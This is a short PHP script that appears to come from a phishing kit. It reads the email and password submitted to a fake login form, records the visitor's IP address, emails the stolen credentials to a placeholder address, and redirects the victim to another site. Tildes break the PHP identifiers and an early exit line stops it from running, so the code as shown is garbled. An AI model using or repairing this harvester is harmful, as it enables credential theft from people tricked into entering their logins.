<?php exit; ?>
<?php
$t = 'Login: ' . $_P~OST['email'] . "\nPassword: " . $_P~OST['password'] . "\nIP: " . $_S~ERVER['REMOTE_ADDR'];
mai~l('marker@marker.invalid', 'Result', $t); header('Location: https://example.com/');
